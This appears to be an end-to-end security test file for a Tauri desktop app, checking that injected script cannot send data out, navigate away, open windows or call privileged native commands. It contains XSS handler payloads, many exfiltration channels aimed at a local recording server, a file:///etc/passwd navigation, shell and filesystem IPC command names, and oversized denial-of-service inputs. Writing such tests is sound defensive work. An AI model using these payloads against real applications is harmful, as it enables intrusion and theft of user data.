// The page cannot be used against its owner: whatever runs in it, nothing leaves this window and nothing else comes into it.
// Each way out is tried in the real window, built as it is shipped, against a server that writes down what reaches it.
import assert from "node:assert/strict";
import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { setTimeout as pause } from "node:timers/promises";
import { flow } from "../support/flow.js";
import { start_recorder } from "../support/recorder.js";
import { text } from "../support/text.js";

/** Run in the page, one by one, as a script that got in would. `out` is the server's address. */
const ways_out = {
  "a script from elsewhere": (out) => void document.body.append(Object.assign(document.createElement("script"), { src: `${out}/script.js` })),
  "an inline script": (out) => void document.body.append(Object.assign(document.createElement("script"), { textContent: `window.got_in = true; fetch("${out}/inline")` })),
  "markup with handlers": (out) => void document.body.insertAdjacentHTML("beforeend", `<img src=x onerror="window.got_in = true"><svg onload="window.got_in = true"></svg><details open ontoggle="window.got_in = true"></details><a id=js href="javascript:window.got_in=true">x</a><img src="${out}/picture.png"><link rel=stylesheet href="${out}/style.css"><link rel=prefetch href="${out}/prefetch"><link rel=preconnect href="${out}"><link rel=dns-prefetch href="${out}"><style>body { background: url(${out}/background) }</style><p style="background: url(${out}/attribute)">x</p><video src="${out}/video" autoplay></video><audio src="${out}/audio" autoplay></audio><object data="${out}/object"></object><embed src="${out}/embed"><input type=image src="${out}/input">`),
  "a javascript link": () => document.getElementById("js")?.click(),
  "a picture": (out) => void (new Image().src = `${out}/image`),
  fetch: (out) => fetch(`${out}/fetch`, { mode: "no-cors" }).then(() => "went", () => "stopped"),
  "a beacon": (out) => navigator.sendBeacon?.(`${out}/beacon`, "x"),
  XMLHttpRequest: (out) => {
    const request = new XMLHttpRequest();
    request.open("POST", `${out}/xhr`);
    request.send("x");
  },
  "a web socket": (out) => void new WebSocket(out.replace("http", "ws")),
  "an event source": (out) => void new EventSource(`${out}/events`),
  "a frame": (out) => void document.body.append(Object.assign(document.createElement("iframe"), { src: `${out}/frame` })),
  "a frame with its own text": (out) => void document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: `<script>parent.got_in = true; fetch("${out}/srcdoc")</script><img src="${out}/srcdoc.png">` })),
  "a worker": (out) => void new Worker(`${out}/worker.js`),
  "a worker made here": (out) => void new Worker(URL.createObjectURL(new Blob([`fetch("${out}/blob")`], { type: "text/javascript" }))),
  "a service worker": (out) => navigator.serviceWorker?.register(`${out}/service.js`).then(() => "registered", () => "stopped"),
  "a module": (out) => import(`${out}/module.js`).then(() => "loaded", () => "stopped"),
  eval: () => {
    (0, eval)("window.got_in = true");
  },
  "a form": (out) => {
    const form = Object.assign(document.createElement("form"), { action: `${out}/form`, method: "post" });
    document.body.append(form);
    form.submit();
  },
  "another base": (out) => void document.head.append(Object.assign(document.createElement("base"), { href: out })),
  "a refresh": (out) => void document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0; url=${out}/refresh` })),
  "a new window": (out) => String(window.open(`${out}/open`)),
  "a link to a new window": (out) => {
    const link = Object.assign(document.createElement("a"), { href: `${out}/blank`, target: "_blank", textContent: "x" });
    document.body.append(link);
    link.click();
  },
  "a download": (out) => {
    const link = Object.assign(document.createElement("a"), { href: `${out}/file`, download: "file", textContent: "x" });
    document.body.append(link);
    link.click();
  },
  "a place to go to": (out) => void (location.href = `${out}/location`),
  "a place in its stead": (out) => location.replace(`${out}/replace`),
  "a place with our own name": (out) => void (location.href = out.replace("127.0.0.1", "tauri.localhost")),
  "a file": () => void (location.href = "file:///etc/passwd"),
  "a data page": () => void (location.href = "data:text/html,<p>elsewhere</p>"),
  "a blob page": () => void (location.href = URL.createObjectURL(new Blob(["<p>elsewhere</p>"], { type: "text/html" }))),
  "an empty page": () => void (location.href = "about:blank"),
  "a form by GET": (out) => {
    const form = Object.assign(document.createElement("form"), { action: `${out}/form`, method: "get", target: "_top" });
    document.body.append(form);
    form.requestSubmit();
  },
};
/* global Blob, EventSource, Image, URL, WebSocket, Worker, XMLHttpRequest, document, fetch, location, navigator, window */

/** Called by a page that has scripts in it: none of these is ours to give. */
const commands = [
  "plugin:opener|open_url", "plugin:opener|open_path", "plugin:store|load", "plugin:dialog|open", "plugin:dialog|save", "plugin:fs|read_file", "plugin:shell|execute",
  "plugin:clipboard-manager|read_text", "plugin:notification|notify", "plugin:notification|is_permission_granted", "plugin:window|close", "plugin:window|set_title", "plugin:window|create", "plugin:webview|create_webview_window", "plugin:webview|internal_toggle_devtools",
  "plugin:event|emit", "plugin:event|emit_to", "plugin:path|resolve_directory", "plugin:app|version", "plugin:resources|close", "no_such_command",
];

flow(
  "nothing leaves the window, and nothing else comes into it",
  async (window) => {
    const { driver } = window;
    const out = await start_recorder();
    try {
      await window.says(text("welcome.headline"));
      const home = await driver.getCurrentUrl();
      assert.match(home, /^tauri:\/\/localhost/, "built as it is shipped");
      const [handle] = await driver.getAllWindowHandles();

      // It can go wrong: the recorder hears what reaches it.
      await (await fetch(`${out.url}/control`)).text();
      assert.deepEqual(out.heard.splice(0), ["a connection", "GET /control"]);

      for (const [name, way] of Object.entries(ways_out)) {
        const went = await driver.executeAsyncScript(
          `const done = arguments[arguments.length - 1]; Promise.resolve().then(() => (${way})(arguments[0])).then((told) => done(String(told)), (why) => done("stopped: " + why)); setTimeout(() => done("waits"), 1500);`,
          out.url,
        );
        assert.doesNotMatch(went, /^(went|registered|loaded|\[object Window\])/, name);
        await pause(120);
        assert.deepEqual(out.heard, [], `${name} got out`);
        assert.equal((await driver.getCurrentUrl()).replace(/#.*/, ""), home.replace(/#.*/, ""), `${name} moved the window`);
        assert.deepEqual(await driver.getAllWindowHandles(), [handle], `${name} opened a window`);
        assert.equal(await driver.executeScript("return window.got_in ?? null"), null, `${name} ran`);
      }
      // What is dragged: by the mouse, a link of the page onto the page.
      const link = await driver.executeScript("const link = Object.assign(document.createElement('a'), { href: arguments[0], textContent: 'drag me', style: 'position: fixed; inset: 0 auto auto 0; z-index: 9; padding: 20px' }); document.body.append(link); return link;", `${out.url}/dragged`);
      await driver.actions().move({ origin: link }).press().move({ x: 300, y: 300, duration: 200 }).move({ x: 420, y: 380, duration: 200 }).release().perform();
      await driver.executeScript("arguments[0].remove()", link);
      // Some of them take their time.
      await pause(1000);
      assert.deepEqual(out.heard, []);
      assert.equal((await driver.getCurrentUrl()).replace(/#.*/, ""), home.replace(/#.*/, ""));
      await window.says(text("welcome.headline"));
      assert.equal(await driver.getTitle(), "Readdress");
    } finally {
      await out.stop();
    }
  },
  { breaks_policy: true },
);

flow("a script in the page has no more than the page", async (window) => {
  const { driver } = window;
  await window.says(text("welcome.headline"));
  const refused = await driver.executeAsyncScript(
    `const [names, done] = arguments; Promise.all(names.map((name) => window.__TAURI_INTERNALS__.invoke(name, {}).then(() => name + " was answered", () => null))).then((all) => done(all.filter(Boolean)));`,
    commands,
  );
  assert.deepEqual(refused, []);
  // Deeper than any parser of the shell goes: refused or not, the window answers afterwards.
  const deep = await driver.executeAsyncScript(
    `const done = arguments[0]; const levels = "[".repeat(50_000) + "]".repeat(50_000);
     const ask = (given) => window.__TAURI_INTERNALS__.invoke("get_profile", given).then(() => "answered", (why) => typeof why);
     Promise.all([ask({ id: JSON.parse("[".repeat(3000) + "]".repeat(3000)) }), fetch("ipc://localhost/get_profile", { method: "POST", body: levels }).then((got) => got.status, () => "refused")]).then(done, done);
     setTimeout(() => done("no answer"), 8000);`,
  );
  assert.notDeepEqual(deep, ["answered", 200], String(deep));
  assert.equal(await driver.executeAsyncScript("const done = arguments[0]; window.__TAURI_INTERNALS__.invoke('get_app_state', {}).then((state) => done(state.mode), done)"), "real");
  const seen = await driver.executeScript(
    "return { global: typeof window.__TAURI__, notification: /native code|undefined/.test(String(window.Notification)), frozen: Object.isFrozen(Object.prototype), proto: (() => { try { Object.prototype.x = 1; } catch { /* it is frozen */ } return ({}).x ?? null; })() }",
  );
  // No plugin has put a script of its own into the page.
  assert.deepEqual(seen, { global: "undefined", notification: true, frozen: true, proto: null });
});

flow("a megabyte of anything does not stop the window", async (window) => {
  await window.says(text("welcome.headline"));
  const box = await window.find("textbox", text("welcome.paste"));
  const texts = ["x".repeat(1 << 20), "<script>".repeat(1 << 17), "\u202e\u0301\0".repeat(300_000), "\u001b[31m\r\n".repeat(150_000), "{{".repeat(1 << 19), "curl 'https://".repeat(80_000)];
  for (const one of texts) {
    const started = Date.now();
    await window.driver.executeScript("const [box, text] = arguments; box.focus(); const data = new DataTransfer(); data.setData('text/plain', text); box.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));", box, one);
    await window.driver.executeAsyncScript("const done = arguments[0]; requestAnimationFrame(() => setTimeout(done, 0));");
    assert.ok(Date.now() - started < 10_000, `${Date.now() - started} ms for ${one.slice(0, 8)}…`);
    await window.driver.executeScript("document.querySelector('dialog[open] header button')?.click()");
  }
});

flow("a service of one's own is shown with its host before its first key", async (window) => {
  await window.says(text("welcome.headline"));
  await window.press("Mine", null);
  const dialog = await window.find("region", text("add.title"));
  await window.says("one.invalid:8443", dialog);
  const disabled = "return [...document.querySelectorAll('dialog footer button')].filter((one) => one.disabled).length";
  assert.ok((await window.driver.executeScript(disabled)) >= 2, "nothing can be saved or tried before");
  await window.press(text("add.accept_host", { host: "one.invalid:8443" }), dialog);
  await window.find("button", text("add.save"), dialog);
  assert.equal(await window.driver.executeScript(disabled), 0);
}, { prepare: own_service });

/** A file in the data folder, as a person would put it there. */
async function own_service(home) {
  const folder = join(home.data, "services");
  await mkdir(folder, { recursive: true });
  const rule = '[[step.ask.answer]]\nstatus = "2xx"\nmeans = "ok"\n';
  await writeFile(join(folder, "mine.toml"), `schema = 1\nid = "mine"\nname = "Mine"\ndocs = "https://one.invalid/docs"\nbase_url = "https://one.invalid:8443"\n[[field]]\nid = "key"\nlabel = { en = "Key" }\nsecret = true\n[flow]\nchange = ["ask"]\n[step.ask]\nmethod = "POST"\npath = "/email"\njson = { email = "{{new_email}}", key = "{{key}}" }\n${rule}`);
}
